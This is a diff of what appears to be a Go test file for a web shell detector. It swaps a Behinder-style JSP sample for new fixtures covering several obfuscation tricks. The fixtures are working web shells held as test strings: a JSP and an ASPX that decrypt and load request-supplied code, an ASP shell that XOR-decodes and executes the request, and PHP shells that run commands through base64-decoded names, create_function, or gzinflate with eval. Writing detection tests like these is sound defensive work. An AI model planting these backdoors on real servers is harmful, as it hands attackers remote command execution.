@@ -117,7 +117,42 @@ if (c != null) {
   String line; while ((line = r.readLine()) != null) { out.println(line); }
 }
 %>`, finding.Critical, "request-to-sink"},
-	{"behinder jsp", "/usr/local/tomcat/webapps/ROOT/shell.jsp", `<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>`, finding.High, "request-code-loading"},
+	{"class loader jsp", "/usr/local/tomcat/webapps/ROOT/status.jsp", `<%@ page import="javax.crypto.Cipher,javax.crypto.spec.SecretKeySpec" %><%!
+static class Loader extends ClassLoader {
+    Loader(ClassLoader parent) { super(parent); }
+    Class<?> load(byte[] code) { return defineClass(null, code, 0, code.length); }
+}
+%><%
+if ("POST".equals(request.getMethod())) {
+    byte[] key = "0123456789abcdef".getBytes();
+    Cipher aes = Cipher.getInstance("AES");
+    aes.init(Cipher.DECRYPT_MODE, new SecretKeySpec(key, "AES"));
+    String body = request.getReader().readLine();
+    byte[] code = aes.doFinal(java.util.Base64.getDecoder().decode(body));
+    new Loader(getClass().getClassLoader()).load(code).newInstance().equals(pageContext);
+}
+%>`, finding.High, "request-code-loading"},
+	{"reflective assembly aspx", "/inetpub/wwwroot/health.aspx", `<%@ Page Language="C#" %><%
+byte[] blob = System.Convert.FromBase64String(Request.Form["d"]);
+var aes = System.Security.Cryptography.Aes.Create();
+aes.Key = aes.IV = System.Text.Encoding.UTF8.GetBytes("0123456789abcdef");
+blob = aes.CreateDecryptor().TransformFinalBlock(blob, 0, blob.Length);
+var asm = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { blob });
+((System.Reflection.Assembly)asm).CreateInstance("P").Equals(Context);
+%>`, finding.High, "request-code-loading"},
+	{"xor asp execute", "/inetpub/wwwroot/ping.asp", `<%
+key = "0123456789abcdef"
+n = Request.TotalBytes
+raw = Request.BinaryRead(n)
+For i = 1 To n
+  code = code & Chr(AscB(MidB(raw, i, 1)) Xor Asc(Mid(key, (i Mod 16) + 1, 1)))
+Next
+Execute code
+%>`, finding.High, "request-to-sink"},
+	{"base64 function name", "/var/www/html/n.php", `<?php $fn = base64_decode("c3lzdGVt"); echo $fn($_GET["q"]); ?>`, finding.Critical, "hidden-name"},
+	{"create_function with base64 payload", "/var/www/html/cf.php", `<?php $h = create_function('', base64_decode('` +
+		base64.StdEncoding.EncodeToString([]byte(`system($_REQUEST["c"]);`)) + `')); $h(); ?>`, finding.Critical, "decoded-payload"},
+	{"gzinflate payload", "/var/www/html/gz.php", `<?php $p = '` + gzinflateB64(`passthru($_POST['x']);`) + `'; eval(gzinflate(base64_decode($p))); ?>`, finding.Critical, "decoded-payload"},
 	{"aspx cmd", "/inetpub/wwwroot/cmd.aspx", `<%@ Page Language="C#" %>
 <%@ Import Namespace="System.Diagnostics" %>
 <script runat="server">
